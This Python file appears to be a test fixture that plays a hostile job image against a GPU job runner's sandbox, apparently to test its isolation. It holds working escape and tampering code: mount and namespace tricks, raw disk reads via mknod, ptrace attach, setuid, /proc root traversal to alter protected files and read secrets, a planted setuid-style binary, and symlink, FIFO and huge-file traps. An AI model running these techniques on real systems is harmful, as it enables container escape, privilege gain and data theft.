"""What a hostile image does: its Python runs this before our worker, in each job.

The values of the job's parameters say which trick is played. `look` tries to change and to read
what is not the job's, in many ways, and leaves what it could do in the job's folder, as seen.json;
then the job goes on. The other tricks leave something bad where the runner reads, and end the job.
"""

import ctypes
import json
import os
import socket
import stat
import sys
from collections.abc import Callable, Iterator
from functools import partial
from typing import Any

LIBC = ctypes.CDLL(None, use_errno=True)
MS_REMOUNT, MS_BIND, MS_NOSUID, MS_NODEV = 32, 4096, 2, 4
CLONE_NEWUSER, CLONE_NEWNS = 0x10000000, 0x00020000
PTRACE_ATTACH = 16
PROTECTED = ("job.json", "claim.json")
BAD = b'{"state": "done", "metrics": {"loss": 0}, "copy": "evil"}'


def tried(action: Callable[[], Any]) -> bool:
    """Return whether an action came to its end, and did not return False."""
    try:
        return action() is not False
    except BaseException:
        return False


def ways(path: str) -> Iterator[tuple[str, Callable[[], Any]]]:
    """Yield the ways in which a file is changed, by name."""
    here = os.path.dirname(path)

    def written() -> None:
        with open(path, "ab") as file:
            file.write(b"# evil")

    def replaced() -> None:
        part = os.path.join(here, ".evil")
        with open(part, "wb") as file:
            file.write(BAD)
        os.rename(part, path)

    def made() -> None:
        with open(path + ".evil.json", "wb") as file:
            file.write(BAD)

    yield "write", written
    yield "replace", replaced
    yield "make", made
    yield "remove", lambda: os.unlink(path)
    yield "move", lambda: os.rename(path, path + ".evil")
    yield "link", lambda: os.link(path, os.path.join(here, "evil-link"))
    yield "mode", lambda: os.chmod(path, 0o666)
    yield "truncate", lambda: os.truncate(path, 0)


def remounted(folder: str) -> bool:
    flags = MS_REMOUNT | MS_BIND | MS_NOSUID | MS_NODEV
    return bool(LIBC.mount(b"none", folder.encode(), None, flags, None) == 0)


def unmounted(folder: str) -> bool:
    return bool(LIBC.umount2(folder.encode(), 2) == 0)


def in_child(action: Callable[[], Any]) -> bool:
    """Return whether an action succeeds in a child process."""
    pid = os.fork()
    if not pid:
        os._exit(0 if tried(action) else 1)
    return os.waitpid(pid, 0)[1] == 0


def as_root_of_its_own(folder: str) -> bool:
    """Make the scan's folder writable from a user namespace of its own."""
    if LIBC.unshare(CLONE_NEWUSER | CLONE_NEWNS) != 0:
        return False
    return remounted(folder) or unmounted(folder)


def is_traced(pid: int) -> bool:
    """Return whether a process can be attached to that is not below the first one here."""
    return pid not in own_line() and bool(LIBC.ptrace(PTRACE_ATTACH, pid, None, None) == 0)


def own_line() -> list[int]:
    """Return the numbers of this process and of those above it."""
    line = [os.getpid()]
    while line[-1] > 1:
        with open(f"/proc/{line[-1]}/stat") as file:
            line.append(int(file.read().rpartition(")")[2].split()[1]))
    return line


def roots() -> Iterator[str]:
    """Yield other ways to the root of the node's file system."""
    for pid in filter(str.isdigit, os.listdir("/proc")):
        for name in ("root", "cwd"):
            yield f"/proc/{pid}/{name}"
    yield "/.." * 20


def became_root() -> bool:
    if os.getuid() == 0:
        return False
    os.setuid(0)
    return True


def devices() -> None:
    """Make a device of each disk, and read from it."""
    for line in open("/proc/partitions").read().split("\n")[2:]:
        if not line.split():
            continue
        major, minor, _, name = line.split()
        path = os.path.join(os.environ.get("TMPDIR", "/tmp"), name)
        os.mknod(path, 0o600 | stat.S_IFBLK, os.makedev(int(major), int(minor)))
        with open(path, "rb") as file:
            file.read(512)


def is_read(path: str) -> None:
    """Return whether a file can be read, or a socket connected to."""
    if path.endswith(".sock"):
        with socket.socket(socket.AF_UNIX) as end:
            end.connect(path)
    else:
        with open(path, "rb") as file:
            file.read(1)


def look(job: str, targets: list[str], secrets: list[str]) -> None:
    """Try all that is not the job's; return what could be done."""
    scan = os.path.dirname(os.path.dirname(job))
    done = []
    for way, action in (
        ("remount", lambda: remounted(scan)),
        ("unmount", lambda: unmounted(scan)),
        ("unmount job.json", lambda: unmounted(os.path.join(job, "job.json"))),
        ("own root", lambda: in_child(lambda: as_root_of_its_own(scan))),
        ("device", devices),
        ("trace", lambda: any(map(is_traced, range(2, os.getppid() + 1)))),
        ("setuid 0", became_root),
    ):
        if tried(action):
            done.append(way)
    for path in [root + path for root in ("", *roots()) for path in targets]:
        # A path below /proc/PID/root may lead to the job's own folder, too.
        own = tried(partial(os.path.samefile, os.path.dirname(path), job))
        for way, action in ways(path):
            # Most of its own folder is the job's to change.
            if own and (way == "make" or os.path.basename(path) not in PROTECTED):
                continue
            if tried(action):
                done.append(f"{way} {path}")
    paths = [root + path for root in ("", *roots()) for path in secrets]
    read = [path for path in paths if tried(partial(is_read, path))]
    with open(os.path.join(job, "seen.json"), "w") as file:
        json.dump({"done": done, "read": read, "uid": os.getuid()}, file)
    # A program that runs as its owner, whoever starts it.
    os.system(f"cp /bin/true {job!r}/su; chmod 6777 {job!r}/su; chmod 777 {job!r}")


def leave(job: str, trick: str, elsewhere: str) -> None:
    """Leave something bad in the job's folder."""
    copy = os.path.join(job, os.environ.get("GRIDGPU_COPY") or "ab12cd34")
    if trick == "link at the copy":
        os.symlink(os.path.join(elsewhere, "copy"), copy)
        return
    os.makedirs(copy, exist_ok=True)
    names = ("copy.json", "metrics.jsonl", "result.json", "output.ipynb", "worker.log")
    places = [os.path.join(job, name) for name in ("result.json", "launch.log", "stop")]
    makers: dict[str, Callable[[str], Any]] = {
        "links": lambda path: os.symlink(os.path.join(elsewhere, os.path.basename(path)), path),
        "pipes": os.mkfifo,
        "sockets": lambda path: socket.socket(socket.AF_UNIX).bind(path),
        "endless": endless,
        "folders": os.mkdir,
    }
    for path in places + [os.path.join(copy, name) for name in names]:
        tried(partial(os.unlink, path))
        tried(partial(makers[trick], path))


def endless(path: str) -> None:
    with open(path, "wb") as file:
        file.truncate(1 << 40)


def play() -> None:
    words = open("/proc/self/cmdline").read().split("\0")
    specs = [word for word in words if word.endswith("/job.json")]
    if not specs:
        return
    job = os.path.dirname(specs[0])
    params = json.load(open(specs[0]))["params"]
    trick = params.get("trick")
    if trick == "look":
        look(job, params["targets"].split("|"), params["secrets"].split("|"))
    elif trick:
        leave(job, trick, params["elsewhere"])
        os._exit(0)


def play_once() -> None:
    """Play the trick of the job in its first process, which is to become our worker."""
    if os.environ.get("HOSTILE_DONE"):
        return
    os.environ["HOSTILE_DONE"] = "1"
    try:
        play()
    except Exception as error:
        print(f"hostile: {error!r}", file=sys.stderr)
